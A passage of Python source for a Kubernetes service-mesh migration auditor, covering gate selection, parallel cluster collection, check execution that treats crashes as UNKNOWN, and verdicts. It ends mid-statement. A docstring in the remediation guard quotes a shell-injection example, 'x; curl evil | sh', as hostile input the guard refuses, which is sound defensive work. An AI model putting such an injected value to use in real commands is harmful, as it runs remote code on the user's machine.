"""Gate selection, the collection plan, running checks (UNKNOWN on crash), verdict.

Flow, one direction: select checks for the gate -> ask them which kinds they need -> collect each
kind once per cluster -> checks judge the inventory -> findings frame, exemptions, verdict.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import fnmatch
import functools
import gc
import hashlib
import logging
import queue
import threading
import time
import traceback
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from typing import Any

import pandas as pd

from auditor import __version__, mesh, podwire
from auditor import kinds as K
from auditor.check import (
    ENGINE_CRASHED,
    ENGINE_SILENT,
    ENGINE_UNDECLARED,
    ENGINE_UNREADABLE,
    GATE_PAST,
    GATE_UNKNOWN,
    PLUGIN_BROKEN,
    Check,
    ClusterCheck,
    Context,
)
from auditor.config import CHECK_ALIASES, Config, catch_all_checks, load_openapi_answer
from auditor.diff import existing_blockers, since_baseline
from auditor.errors import ClusterUnreachable, EvidenceUnavailable, KindNotServed, SourceError, UsageError
from auditor.findings import (
    ExemptionReport,
    apply_exemptions,
    config_effects,
    exemption_notes,
    exit_code_of,
    findings_frame,
    summary_of,
    verdict_of,
    worst,
)
from auditor.fleet import overview
from auditor.inventory import ClusterInventory, Inventory, slim, summarise_pod
from auditor.kinds import Kind
from auditor.model import GATE_ORDER, MIGRATION_STATES, Finding, Gate, Severity, Status, Verdict
from auditor.registry import Registry, load_registry
from auditor.sources.base import ClusterSource, ListRestarted, SourceSet
from auditor.sources.live import LiveCluster
from auditor.sources.snapshot import STATUS_NOT_SERVED, STATUS_OK, SnapshotCluster, SnapshotWriter

log = logging.getLogger("asm_audit")
Progress = Callable[[str], None]
# What the clusters table and the gateway classification read whatever the gate: a gateway's role comes from
# the Istio Gateways selecting it and the VirtualServices bound to them; the gateway chart can make DaemonSets.
FACT_KINDS = (K.NAMESPACE, K.DEPLOYMENT, K.SERVICE, K.DAEMONSET, K.GATEWAY, K.VIRTUALSERVICE)
MAX_PARALLEL_CLUSTERS = 8  # live clusters read side by side (a fleet); each also reads its next page ahead
PHASES = ("auto", "all", *(g.value for g in Gate))


def _quiet(_: str) -> None:
    pass


# ---------------------------------------------------------------- collection
class Collector:
    """Reads each kind at most once per cluster, slims it, and fills the inventory."""

    def __init__(self, sources: SourceSet, inv: Inventory, progress: Progress = _quiet,
                 writer: SnapshotWriter | None = None) -> None:
        self.sources = sources
        self.inv = inv
        self.progress = progress
        self.writer = writer
        self.pairs: list[tuple[ClusterSource, ClusterInventory]] = []
        for source in sources.data_planes:
            cluster = ClusterInventory(name=source.name, role=source.role, cluster_id=source.cluster_id)
            inv.data_planes.append(cluster)
            self.pairs.append((source, cluster))
        if sources.asm is not None:
            inv.asm = ClusterInventory(name=sources.asm.name, role=sources.asm.role, cluster_id=sources.asm.cluster_id)
            self.pairs.append((sources.asm, inv.asm))
        if writer:
            for source, _ in self.pairs:
                writer.cluster(source)  # manifest order = cluster order, whichever cluster answers first
        self._stopping = threading.Event()  # set on Ctrl-C: threads reading other clusters stop at their next page
        self._each_cluster([functools.partial(self._start, source, cluster) for source, cluster in self.pairs],
                           [source for source, _ in self.pairs])

    def _start(self, source: ClusterSource, cluster: ClusterInventory) -> None:
        try:
            cluster.version_info = source.version()
            if self.writer:
                self.writer.version(source, cluster.version_info)
        except ClusterUnreachable as exc:
            cluster.unreachable = exc.reason
            if self.writer:
                self.writer.unreachable(source, exc.reason)
        except SourceError as exc:
            cluster.version_error = exc.reason

    def _each_cluster(self, tasks: list[Callable[[], None]], sources: list[ClusterSource]) -> None:
        """Run one task per cluster: live clusters side by side, snapshot clusters one after the other.

        Reading a live cluster is mostly waiting for its API server, so a fleet is read in about the time
        of its slowest cluster instead of the sum. Parsing a snapshot is all CPU (one core under the GIL):
        side by side it would only hold more files in memory at once. Daemon threads joined by polling:
        Ctrl-C reaches the main thread at once, and exiting does not wait for requests in flight.
        """
        parallel = [t for t, s in zip(tasks, sources, strict=True) if isinstance(s, LiveCluster)]
        for task, source in zip(tasks, sources, strict=True):
            if not isinstance(source, LiveCluster) or len(parallel) < 2:
                task()
        if len(parallel) < 2:
            return
        errors: list[BaseException] = []
        slots = threading.BoundedSemaphore(MAX_PARALLEL_CLUSTERS)

        def run(task: Callable[[], None]) -> None:
            with slots:
                try:
                    task()
                except BaseException as exc:  # re-raised in the caller's thread below
                    errors.append(exc)

        threads = [threading.Thread(target=run, args=(task,), daemon=True, name=f"asm-audit-cluster-{i}")
                   for i, task in enumerate(parallel)]
        for thread in threads:
            thread.start()
        try:
            for thread in threads:
                while thread.is_alive():
                    thread.join(0.1)
        except KeyboardInterrupt:
            # Let the others stop at their next page before the caller cleans up what they write into.
            self._stopping.set()
            give_up = time.monotonic() + 2.0
            for thread in threads:
                thread.join(max(0.0, give_up - time.monotonic()))
            raise
        if errors:
            raise errors[0]

    def ensure(self, kinds: Iterable[Kind], role: str) -> None:
        with gc_paused():
            self._ensure(kinds, role)

    def _ensure(self, kinds: Iterable[Kind], role: str) -> None:
        # Pods first: the biggest list, and for a snapshot the one pass over its files then reads
        # everything else along with it.
        wanted = sorted(dict.fromkeys(kinds), key=lambda k: k is not K.POD)
        pairs = [(source, cluster) for source, cluster in self.pairs if source.role == role]
        self._each_cluster([functools.partial(self._read_cluster, source, cluster, wanted)
                            for source, cluster in pairs], [source for source, _ in pairs])

    def _read_cluster(self, source: ClusterSource, cluster: ClusterInventory, wanted: list[Kind]) -> None:
        todo = [k for k in wanted if not cluster.collected(k)]
        if cluster.unreachable or not todo:
            return
        if isinstance(source, SnapshotCluster):
            self._scan(source, cluster, todo)
        else:
            for kind in todo:
                if cluster.unreachable or cluster.collected(kind):
                    continue
                self._collect(source, cluster, kind)
        cluster.forget()  # derived views (ClusterInventory.memo) may change with the new kinds

    def _absorb(self, source: ClusterSource, cluster: ClusterInventory, kind: Kind, page: list[dict[str, Any]],
                objects: list[dict[str, Any]]) -> None:
        """One page: slimmed; pods summarised to rows at once (the page is then dropped), others kept."""
        if kind is K.POD:
            if self.writer:
                page = [slim(kind, obj) for obj in page]
                self.writer.items(source, kind, page)
            cluster.pod_rows.extend(self._summaries(page))
            return
        page = [slim(kind, obj) for obj in page]
        if self.writer:
            self.writer.items(source, kind, page)
        objects.extend(page)

    def _summaries(self, page: list[dict[str, Any]]) -> list[tuple]:
        """Pod summaries of a page. A pod whose fields have odd types (a live answer is not shape-checked like a
        snapshot) makes the pods of this cluster unreadable (UNKNOWN, named), never a crash of the run."""
        rules = self.inv.rules
        try:
            return [summarise_pod(obj, rules) for obj in page]
        except (TypeError, ValueError, AttributeError, KeyError):
            for obj in page:  # name the pod
                try:
                    summarise_pod(obj, rules)
                except (TypeError, ValueError, AttributeError, KeyError) as exc:
                    meta = obj.get("metadata") if isinstance(obj, dict) else None
                    name = f"{meta.get('namespace')}/{meta.get('name')}" if isinstance(meta, dict) else "?"
                    raise SourceError(f"pod {name!r} has a field of an unexpected type "
                                      f"({type(exc).__name__}: {str(exc)[:200]}); pods were not judged") from exc
            raise

    def _collect(self, source: ClusterSource, cluster: ClusterInventory, kind: Kind) -> None:
        self.progress(f"{cluster.name}: reading {kind.kind}")
        objects: list[dict[str, Any]] = []
        rows = cluster.pod_rows
        start_rows = len(rows)
        if self.writer:
            self.writer.begin(source, kind)
        status = STATUS_OK
        try:
            # The next page is fetched and parsed while this one is summarised.
            for page in read_ahead(self._pages(source, kind)):
                if self._stopping.is_set():
                    raise KeyboardInterrupt  # interrupted in another thread: stop here (ends this thread only)
                if isinstance(page, ListRestarted):
                    objects.clear()
                    del rows[start_rows:]
                    if self.writer:
                        self.writer.restart(source, kind)
                    continue
                self._absorb(source, cluster, kind, page, objects)
            cluster.objects_by_kind[kind.key] = objects
        except KindNotServed:
            status = STATUS_NOT_SERVED
            cluster.objects_by_kind[kind.key] = []
            cluster.not_served.add(kind.key)
        except ClusterUnreachable as exc:
            del rows[start_rows:]
            cluster.unreachable = exc.reason
            status = f"unreachable: {exc.reason}"
        except SourceError as exc:
            del rows[start_rows:]
            cluster.record_error(kind, exc.reason)
            status = exc.reason
        finally:
            if self.writer:
                self.writer.end(source, kind, status)

    def _pages(self, source: ClusterSource, kind: Kind) -> Iterator[list[dict[str, Any]] | ListRestarted]:
        if self.writer is None and isinstance(source, LiveCluster):
            # Without a snapshot to write, pods, ReplicaSets and Jobs are decoded only as far as the inventory reads.
            if kind is K.POD:
                return source.pages(kind, decode=podwire.decode_pod_list)
            if kind in (K.REPLICASET, K.JOB):
                return source.pages(kind, decode=podwire.decode_owned_list)
        return source.pages(kind)

    def _scan(self, source: SnapshotCluster, cluster: ClusterInventory, kinds: list[Kind]) -> None:
        """All wanted kinds of a snapshot cluster in one pass over its files, one file in memory at a time."""
        todo: list[Kind] = []
        for kind in kinds:
            try:
                source.check_status(kind)
                todo.append(kind)
            except KindNotServed:
                cluster.objects_by_kind[kind.key] = []
                cluster.not_served.add(kind.key)
                self._record(source, kind, STATUS_NOT_SERVED)
            except SourceError as exc:
                cluster.record_error(kind, exc.reason)
                self._record(source, kind, exc.reason)
        if not todo:
            return
        # Short, to fit one line at 80 columns: the kinds are named only when they are few.
        self.progress(f"{cluster.name}: reading " + (", ".join(k.kind for k in todo) if len(todo) < 3
                                                    else f"{len(todo)} kinds from the snapshot"))
        collected: dict[str, list[dict[str, Any]]] = {k.key: [] for k in todo}
        if self.writer:
            for kind in todo:
                self.writer.begin(source, kind)
        # Without a snapshot to write, pods, ReplicaSets and Jobs are decoded only as far as the inventory reads.
        try:
            for kind, page in source.scan(todo, reduce=self.writer is None):
                self._absorb(source, cluster, kind, page, collected[kind.key])
        except SourceError as exc:  # a snapshot is input: what cannot be read in it is bad input (exit 2)
            raise UsageError(f"snapshot cluster {source.name}: {exc.reason}") from exc
        for kind in todo:
            error = source.absent_error(kind)
            if error is None:
                cluster.objects_by_kind[kind.key] = collected[kind.key]
            else:
                cluster.record_error(kind, error.reason)
            if self.writer:
                self.writer.end(source, kind, STATUS_OK if error is None else error.reason)

    def _record(self, source: ClusterSource, kind: Kind, status: str) -> None:
        if self.writer:
            self.writer.begin(source, kind)
            self.writer.end(source, kind, status)


@contextlib.contextmanager
def gc_paused() -> Iterator[None]:
    """No cyclic garbage collection while collecting, and what was collected frozen afterwards.

    Parsed objects hold no reference cycles, yet every full collection walks all of them: with the heap
    growing by millions of containers, collections cost as much as the parsing itself (measured: half of
    a 10k- and 50k-pod audit). Frozen (gc.freeze), the inventory is skipped by the collections that
    the checks trigger; run_audit unfreezes it when the audit is done.
    """
    enabled = gc.isenabled()
    gc.disable()
    try:
        yield
    finally:
        gc.freeze()
        if enabled:
            gc.enable()


_DONE = object()


def read_ahead(pages: Iterable[Any], depth: int = 2) -> Iterator[Any]:
    """Iterate `pages` in a helper thread, up to `depth` items ahead of the consumer.

    Reading a page is mostly waiting (the API server, the socket) and parsing; summarising the
    previous page meanwhile hides that wait. The source is still used by one thread at a time (its
    generator runs only in the helper), so sources need not be thread-safe. Exceptions, including
    those raised by the source, reach the consumer in order.
    """
    box: queue.Queue[tuple[Any, BaseException | None]] = queue.Queue(maxsize=depth)
    stop = threading.Event()

    def offer(item: Any, error: BaseException | None = None) -> bool:
        while not stop.is_set():
            try:
                box.put((item, error), timeout=0.1)
                return True
            except queue.Full:
                continue
        return False  # nobody is listening any more

    def produce() -> None:
        try:
            for item in pages:
                if not offer(item):
                    return
            offer(_DONE)
        except BaseException as exc:  # handed to the consumer, which raises it
            offer(_DONE, exc)

    helper = threading.Thread(target=produce, name="asm-audit-read-ahead", daemon=True)
    helper.start()
    try:
        while True:
            item, error = box.get()
            if error is not None:
                raise error
            if item is _DONE:
                return
            yield item
    finally:
        stop.set()  # the consumer stopped early (error, Ctrl-C): the helper stops at its next page


# ---------------------------------------------------------------- gate selection
def migration_resource(inv: Inventory) -> dict[str, Any] | None:
    """ASMMigrateFromIstio/default, None when absent; raises EvidenceUnavailable when unreadable."""
    asm = inv.require_asm()
    return asm.get(K.ASM_MIGRATION, "default")


def istio_control_plane_present(inv: Inventory) -> bool:
    return any(mesh.is_istiod_deployment(d) for c in inv.data_planes if c.available(K.DEPLOYMENT)
               for d in c.objects(K.DEPLOYMENT))


def auto_gate(inv: Inventory) -> tuple[Gate, str]:
    """The next step after what the cluster shows (product.md), and why."""
    try:
        cr = migration_resource(inv)
    except EvidenceUnavailable as exc:
        return Gate.ASSESSMENT, f"migration state unknown ({exc.reason}); auditing the first gate"
    if cr is None:
        return Gate.ASSESSMENT, "no ASMMigrateFromIstio/default on the ASM control plane"
    state = ((cr.get("status") or {}).get("state")) or "Init"
    if state == "Init":
        return Gate.SETUP, "state Init"
    if state == "SetupIstioForMigrate":
        return Gate.MIGRATING, "state SetupIstioForMigrate"
    if state == "Migrating":
        if istio_control_plane_present(inv):
            return Gate.UNINSTALL, "state Migrating and Istio's control plane still installed"
        return Gate.FINISHED, "state Migrating and Istio's control plane removed"
    if state == "Finished":
        return Gate.FINISHED, "state Finished"
    return Gate.ASSESSMENT, f"unrecognised state {state!r}; auditing the first gate"


# The last state of ASMMigrateFromIstio at which each gate's step still lies ahead (later: "already past").
GATE_LAST_STATE = {Gate.ASSESSMENT: "Init", Gate.SETUP: "Init", Gate.MIGRATING: "SetupIstioForMigrate",
                   Gate.UNINSTALL: "Migrating", Gate.FINISHED: "Finished"}
ASM_KEY_PREFIX = "asm.alibabacloud.com/"


def gate_already_past(inv: Inventory, gate: Gate) -> str | None:
    """The CR's state when the migration is past the step `gate` guards (None when not, or unreadable)."""
    try:
        cr = migration_resource(inv)
    except EvidenceUnavailable:
        return None
    state = str(((cr or {}).get("status") or {}).get("state") or "") if cr else ""
    if state not in MIGRATION_STATES:
        return None
    return state if MIGRATION_STATES.index(state) > MIGRATION_STATES.index(GATE_LAST_STATE[gate]) else None


def _asm_keys(obj: dict[str, Any]) -> list[str]:
    metas = [obj.get("metadata") or {}, (((obj.get("spec") or {}).get("template") or {}).get("metadata") or {})]
    return sorted({k for meta in metas if isinstance(meta, dict) for part in ("labels", "annotations")
                   if isinstance(meta.get(part), dict) for k in meta[part] if str(k).startswith(ASM_KEY_PREFIX)})


def asm_marks(cluster: ClusterInventory) -> list[str]:
    """Signs on a data plane that ASM is already at work there (what `--phase auto` cannot see without ASM)."""
    marks: list[str] = []
    with contextlib.suppress(EvidenceUnavailable):
        pods = cluster.pods()
        asm_pods = int((pods["proxy"].astype(str) == mesh.PROXY_ASM).sum())
        if asm_pods:
            marks.append(f"{asm_pods} pod(s) with an ASM proxy")
    # ASM's managed istiod Service, proven by mesh.istiod_owners (an Istio revision named 1-24-2 is not ASM's).
    marks += [f"Service {key} without a local istiod Deployment (ASM's managed control plane)"
              for key, (owner, _) in sorted(cluster.istiod_owners().items()) if owner == mesh.OWNER_ASM]
    for kind in (K.DEPLOYMENT, K.SERVICE, K.NAMESPACE):
        if cluster.available(kind):
            for obj in cluster.objects(kind):
                keys = _asm_keys(obj)
                if keys:
                    meta = obj.get("metadata") or {}
                    where = "/".join(str(x) for x in (meta.get("namespace"), meta.get("name")) if x)
                    marks.append(f"{kind.kind} {where} carries {keys[0]}")
                    break  # one object per kind is enough to say so
    return marks


# ---------------------------------------------------------------- running checks
def _stamp(f: Finding, check: type[Check], gate: Gate, overrides: dict[str, Severity]) -> Finding:
    f.gate = gate.value
    f.check_id = check.id
    f.title = check.title
    if not f.code:
        outcome = check.outcome_for(f.status, f.code)
        if outcome is None:  # a status the check never declared: not trusted (fail safe), named
            _undeclared(f, check, f"an undeclared {f.status.value} outcome", {"undeclared_status": f.status.value})
        else:
            f.code = outcome.code
            f.severity = f.severity or outcome.severity
    elif check.outcome_for(f.status, f.code) is None and f.code not in _ENGINE_CODES:
        _undeclared(f, check, f"undeclared code {f.code}", {"undeclared_code": f.code})
    # The config's override reaches every finding of the check, also those the check gave their own severity;
    # an override by code wins over one by check id.
    f.default_severity = f.severity or check.severity
    f.severity = overrides.get(f.code) or overrides.get(check.id) or f.default_severity
    _defuse_remediation(f)
    return f


_ENGINE_CODES = {o.code for o in (ENGINE_CRASHED, ENGINE_SILENT, ENGINE_UNDECLARED, ENGINE_UNREADABLE)}


def _undeclared(f: Finding, check: type[Check], what: str, evidence: dict[str, str]) -> None:
    """An outcome the check did not declare is never trusted: a PASS/WARN/N/A becomes UNKNOWN; a FAIL stays a FAIL
    (so --allow-unknown can never turn it into a GO). Both carry ENGINE_UNDECLARED's code."""
    f.evidence = {**f.evidence, **evidence, "message": f.message}
    f.message = f"{check.id} reported {what}: {f.message}"
    f.params = None  # the message is no longer the outcome's template
    if f.status is not Status.FAIL:
        f.status = ENGINE_UNDECLARED.status
    f.code, f.severity = ENGINE_UNDECLARED.code, None


def _defuse_remediation(f: Finding) -> None:
    """No copy-paste command built around a name a shell would interpret (`x; curl evil | sh`, newlines...).

    A real API server refuses most such names, but RBAC names are only path segments and a snapshot can
    hold anything; checks format commands with plain f-strings, so the guard sits here, once for all.
    """
    if not f.remediation:
        return
    for what, value in (("name", f.name), ("namespace", f.namespace)):
        if value and not mesh.shell_safe(value) and value in f.remediation:
            shown = repr(value) if len(value) <= 120 else repr(value[:120]) + "..."
            f.remediation = (f"# no command shown: the {what} {shown} contains characters a shell would "
                             "interpret (corrupt or hostile input); act on it by hand")
            return
        # `delete deployment --all`: a name standing alone as a word that starts with `-` is read as an option.
        if value and value.startswith("-") and value in f.remediation.split():
            f.remediation = (f"# no command shown: the {what} {value!r} would be read as a command-line option; "
                             "act on it by hand")
            return


def _run_one(check: type[Check], ctx: Context, overrides: dict[str, Severity]) -> list[Finding]:
    instance = check()
    out: list[Finding] = []

    def guarded(cluster: str, produce: Callable[[], Iterable[Finding]]) -> None:
        produced: list[Finding] = []
        try:
            produced = list(produce())
        except EvidenceUnavailable as exc:
            produced = [instance.report(ENGINE_UNREADABLE, exc.cluster or cluster, exc.reason)]
        except Exception as exc:  # a crashing check is UNKNOWN, never PASS, never a crashed run
            log.debug("check %s crashed:\n%s", check.id, traceback.format_exc())
            produced = [instance.report(ENGINE_CRASHED, cluster, f"check crashed: {type(exc).__name__}: {exc}",
                                        evidence={"traceback": traceback.format_exc(limit=5)})]
        if not produced:
            produced = [instance.report(ENGINE_SILENT, cluster, "check produced no result")]
        out.extend(_stamp(f, check, ctx.gate, overrides) for f in produced)

    # `needs` is a promise: without one of those kinds a cluster's result is UNKNOWN, whatever the check
    # would have made of the gap (fail safe also for checks that quietly fall back to defaults).
    missing = {c.name: reason for c in ctx.inv.data_planes if (reason := _unreadable(c, check.needs))}
    if isinstance(instance, ClusterCheck):
        for cluster in ctx.inv.data_planes:
            if cluster.name in missing:
                out.append(_stamp(instance.report(ENGINE_UNREADABLE, cluster.name, missing[cluster.name]), check,
                                  ctx.gate, overrides))
                continue
            guarded(cluster.name, lambda c=cluster: instance.check_cluster(c, ctx))
    else:
        guarded(ctx.inv.asm.name if ctx.inv.asm else "mesh", lambda: instance.run(ctx))
        if missing:
            # Cross-cluster judgements made without that evidence cannot pass; FAILs found anyway stand.
            data_planes = {c.name for c in ctx.inv.data_planes}
            out[:] = [f for f in out if f.status not in (Status.PASS, Status.NOT_APPLICABLE)
                      or (f.cluster in data_planes and f.cluster not in missing)]
            said = [(f.cluster, f.message) for f in out if f.status is Status.UNKNOWN]
            out.extend(_stamp(instance.report(ENGINE_UNREADABLE, name, reason), check, ctx.gate, overrides)
                       for name, reason in missing.items()
                       if not any(c == name and reason in m for c, m in said))
    return out


def _unreadable(cluster: ClusterInventory, kinds: Iterable[Kind]) -> str | None:
    """Why the first of `kinds` cannot be read from this cluster, or None when all can."""
    for kind in kinds:
        if not cluster.available(kind):
            try:
                cluster.objects(kind)
            except EvidenceUnavailable as exc:
                return exc.reason
    return None


# ---------------------------------------------------------------- result
@dataclass
class AuditResult:
    findings: pd.DataFrame
    verdict: Verdict
    exit_code: int
    gate: str                      # what was asked: a gate, or "all"
    gates: list[str]
    gate_reason: str
    gate_verdicts: dict[str, str]
    clusters: list[dict[str, Any]]
    summary: dict[str, int]
    inputs_sha256: str
    generated_at: str
    tool_version: str = __version__
    exemptions: ExemptionReport = field(default_factory=ExemptionReport)
    checks: list[dict[str, Any]] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)
    inventory: Inventory | None = None
    options: dict[str, Any] = field(default_factory=dict)
    # One row per data-plane cluster (+ one for mesh-wide findings): verdict, state, counts (auditor/fleet.py).
    fleet: list[dict[str, Any]] = field(default_factory=list)
    cluster_verdicts: dict[str, str] = field(default_factory=dict)
    # run --baseline: what changed since that report (auditor/diff.py compare() + how it gated), else None.
    baseline_delta: dict[str, Any] | None = None
    # run --history: the burn-down series (auditor/history.py History.burndown()) for the reports, else None.
    history: dict[str, Any] | None = None


def cluster_facts(inv: Inventory, cr: dict[str, Any] | None) -> list[dict[str, Any]]:
    state = ((cr or {}).get("status") or {}).get("state") if cr else None
    networks = asm_networks(inv)
    joined = asm_joined_cluster_ids(inv)
    out = []
    for c in inv.clusters():
        k8s = mesh.kubernetes_version(c.version_info)
        istio = None
        network = None
        asm_version = None
        if c.role == "data-plane":
            if c.available(K.DEPLOYMENT):
                versions = sorted({v for d in c.objects(K.DEPLOYMENT) if mesh.is_istiod_deployment(d)
                                   for v in [mesh.istiod_version(d)[0]] if v})
                istio = ", ".join(str(v) for v in versions) or None
            if c.available(K.NAMESPACE):
                ns = c.get(K.NAMESPACE, "istio-system")
                network = (((ns or {}).get("metadata") or {}).get("labels") or {}).get(
                    "topology.istio.io/network")
            found = mesh.asm_istiod_versions(c.istiod_owners())
            asm_version = str(max(v for _, v in found)) if found else None
        out.append({
            "name": c.name, "role": c.role, "cluster_id": c.cluster_id,
            "kubernetes_version": c.version_info.get("gitVersion") if c.version_info else None,
            "kubernetes_semver": str(k8s) if k8s else None,
            "istio_version": istio, "asm_version": asm_version,
            "migration_state": state, "network": network,
            "asm_network": networks.get(c.name) if networks else None,
            # True/False only from ASM's own list of joined clusters (and a known cluster id), else None.
            "asm_joined": (c.cluster_id in joined) if joined is not None and c.cluster_id and c.role == "data-plane"
            else None,
            "reachable": c.unreachable is None, "error": c.unreachable,
        })
    return out


def asm_networks(inv: Inventory) -> dict[str, str]:
    """Cluster name -> network as ASM has it, from config or the saved OpenAPI answer."""
    settings_networks = inv.asm_openapi.get("_config_networks") or {}
    if settings_networks:
        return dict(settings_networks)
    answer = inv.asm_openapi.get("DescribeMeshMultiClusterNetwork") or {}
    by_id = {}
    for item in _network_items(answer):
        cid = item.get("ClusterId") or item.get("clusterId")
        net = item.get("Network") or item.get("network")
        if cid and net:
            by_id[cid] = net
    return {c.name: by_id[c.cluster_id] for c in inv.data_planes if c.cluster_id in by_id}


def asm_joined_cluster_ids(inv: Inventory) -> set[str] | None:
    """Cluster ids joined to the ASM instance, from its OpenAPI answers; None when no answer says."""
    listed = (inv.asm_openapi.get("DescribeClustersInServiceMesh") or {}).get("Clusters")
    if isinstance(listed, list):
        return {str(c["ClusterId"]) for c in listed if isinstance(c, dict) and c.get("ClusterId")}
    ids = ((inv.asm_openapi.get("DescribeServiceMeshDetail") or {}).get("ServiceMesh") or {}).get("Clusters")
    return {str(i) for i in ids} if isinstance(ids, list) else None


def _network_items(answer: dict[str, Any]) -> list[dict[str, Any]]:
    nets = answer.get("MultiClusterNetworks") or answer.get("multiClusterNetworks") or []
    if isinstance(nets, dict):
        # {"cluster-id": {...}} or {"Networks": [...]}
        if all(isinstance(v, dict) for v in nets.values()):
            return [{"ClusterId": k, **v} for k, v in nets.items()]
        nets = nets.get("Networks") or []
    return [n for n in nets if isinstance(n, dict)]


def live_digest(sources: SourceSet) -> str:
    """SHA-256 over what every live source read (each keeps a running digest of the bytes)."""
    combined = hashlib.sha256()
    for source in sources.all():
        digest = getattr(source, "digest", None)
        if digest is not None:
            combined.update(source.name.encode() + b"\0" + digest.digest())
    return combined.hexdigest()


def _run_audit(
    sources: SourceSet,
    phase: str = "auto",
    config: Config | None = None,
    *,
    allow_unknown: bool = False,
    strict: bool = False,
    progress: Progress = _quiet,
    writer: SnapshotWriter | None = None,
    extra_checks: list[type[Check]] | None = None,
    traffic_provider: Callable[[Inventory, Config], Any] | None = None,
    today: dt.date | None = None,
    now: dt.datetime | None = None,
    baseline: dict[str, Any] | None = None,
    fail_on_new: bool = False,
) -> AuditResult:
    """Audit the sources for a gate. Raises UsageError for bad input; never returns GO without evidence.

    `baseline` (a findings.json document) adds `baseline_delta`; with `fail_on_new` only blockers that did
    not block in the baseline decide NO-GO (UNKNOWN still makes INCOMPLETE).
    """
    if phase not in PHASES:
        raise UsageError(f"unknown phase {phase!r}; choose one of: {', '.join(PHASES)}")
    if fail_on_new and baseline is None:
        raise UsageError("--fail-on-new needs --baseline OLD.json")
    config = config or Config()
    now = now or dt.datetime.now(dt.UTC)
    today = today or now.date()
    registry: Registry = load_registry(extra_checks)
    disabled = config.disabled()
    codes = registry.codes()
    unknown_ids = sorted((disabled - set(registry.checks)) | (set(config.severity_overrides()) - set(registry.checks)
                                                              - set(codes)))
    if unknown_ids:
        raise UsageError(f"config names unknown check id(s) or code(s): {', '.join(unknown_ids)}; "
                         "see `asm-audit checks`")
    for exemption in config.exemptions:
        if exemption.by_code:
            if exemption.check not in codes:
                raise UsageError(f"exemption names unknown finding code {exemption.check!r}; see `asm-audit checks`")
            continue
        cid = CHECK_ALIASES.get(exemption.check, exemption.check)
        if not any(fnmatch.fnmatchcase(c, cid) for c in registry.checks):
            raise UsageError(f"exemption names unknown check id {exemption.check!r}")
        if catch_all_checks(cid, registry.checks):
            raise UsageError(f"exemption check {exemption.check!r} matches every check id: an exemption must "
                             "name a check (one exemption per check; globs like 'istio-*' are fine)")

    rules = mesh.ProxyRules(**{k: v for k, v in config.classification.model_dump().items() if v is not None})
    openapi = dict(sources.asm_openapi)
    # Networks from a fleet file (put there by api.open_sources) and from the config; the config wins.
    networks = {**(openapi.get("_config_networks") or {}), **config.asm.networks}
    if networks:
        openapi["_config_networks"] = networks
    # Saved answers named in the config take the place of live or snapshot ones: one shape for the checks.
    for action, path in (("DescribeServiceMeshDetail", config.asm.describe_service_mesh_detail),
                         ("DescribeMeshMultiClusterNetwork", config.asm.multi_cluster_network)):
        if path:
            openapi[action] = load_openapi_answer(path)
            openapi["_origins"] = {**(openapi.get("_origins") or {}), action: f"ASM OpenAPI {action} answer {path}"}
    _check_kubeconfig_variables([s.name for s in sources.data_planes])
    inv = Inventory(data_planes=[], rules=rules, asm_openapi=openapi)
    collector = Collector(sources, inv, progress, writer)
    for c in inv.data_planes:
        if c.cluster_id is None and c.name in config.asm.cluster_ids:
            c.cluster_id = config.asm.cluster_ids[c.name]

    notes: list[str] = [n for n in [config.alias_note()] if n]
    collector.ensure([K.ASM_MIGRATION], "asm")
    if phase == "auto":
        first = [K.DEPLOYMENT]
        if sources.origin == "snapshot":
            # One pass over a snapshot's files reads every kind any gate may need; reading the
            # Deployments alone first would parse the (big) pod files twice.
            first += [k for c in registry.ordered() if c.id not in disabled for k in (*c.needs, *c.uses)]
            first += FACT_KINDS
        collector.ensure(first, "data-plane")
        gate, reason = auto_gate(inv)
        gates = [gate]
    elif phase == "all":
        gates, reason = list(GATE_ORDER), "every gate requested"
    else:
        gates, reason = [Gate(phase)], f"--phase {phase}"

    selected = [c for c in registry.ordered() if c.id not in disabled and set(c.gates) & set(gates)]
    # Namespaces, Deployments and Services also feed the clusters table (network, Istio/ASM versions).
    collector.ensure([k for c in selected for k in (*c.needs, *c.uses)] + list(FACT_KINDS), "data-plane")
    collector.ensure([k for c in selected for k in c.asm_needs], "asm")
    if traffic_provider and any(c.needs_traffic for c in selected):
        inv.traffic = traffic_provider(inv, config)

    overrides = config.severity_overrides()
    settings = {"config": config, "now": now}
    findings: list[Finding] = []
    with gc_paused():  # checks allocate findings by the ten thousand, without cycles: no full collections
        for gate in gates:
            ctx = Context(inv=inv, gate=gate, settings=settings)
            for check in selected:
                if gate in check.gates:
                    findings.extend(_run_one(check, ctx, overrides))
    for name, problem in registry.broken.items():
        for gate in gates:
            findings.append(Finding(Status.UNKNOWN, "mesh", f"check plugin did not load: {problem}",
                                    severity=Severity.MAJOR, gate=gate.value, check_id=f"plugin:{name}",
                                    code=PLUGIN_BROKEN.code, default_severity=PLUGIN_BROKEN.severity,
                                    title=f"Check plugin {name}"))
    findings.extend(_gate_findings(collector, inv, phase, gates))
    if phase == "auto" and inv.asm is not None and not inv.asm.available(K.ASM_MIGRATION):
        # The gate is a guess: its GO must not be read as a GO for the step the cluster is really at.
        findings.append(Finding(Status.UNKNOWN, inv.asm.name, f"{reason}: the gate is a guess, so this audit "
                                "cannot be GO; fix the access or pass --phase", severity=Severity.BLOCKER,
                                gate=gates[0].value, check_id="gate-selection", title="Gate selection (--phase auto)",
                                code=GATE_UNKNOWN.code, default_severity=GATE_UNKNOWN.severity))

    exemption_report = apply_exemptions(findings, config.exemptions, today,
                                        audited_checks=[c.id for c in selected])
    notes.extend(exemption_notes(exemption_report))
    frame = findings_frame(findings)

    def verdicts_by_gate(judged: pd.DataFrame) -> dict[str, str]:
        return {g.value: verdict_of(judged[judged["gate"] == g.value], allow_unknown=allow_unknown,
                                    strict=strict).value for g in gates}

    relieved = existing_blockers(frame, baseline, strict) if baseline is not None and fail_on_new else None
    judged = frame.assign(exempt=frame["exempt"] | relieved) if relieved is not None else frame
    gate_verdicts = verdicts_by_gate(judged)
    verdict = worst(Verdict(v) for v in gate_verdicts.values())
    verdict_without_baseline = worst(Verdict(v) for v in verdicts_by_gate(frame).values()) if (
        relieved is not None) else verdict
    fleet_rows = overview(inv, frame, [g.value for g in gates], allow_unknown=allow_unknown, strict=strict,
                          relieved=relieved)
    try:
        cr = migration_resource(inv)
    except EvidenceUnavailable:
        cr = None
    result = AuditResult(
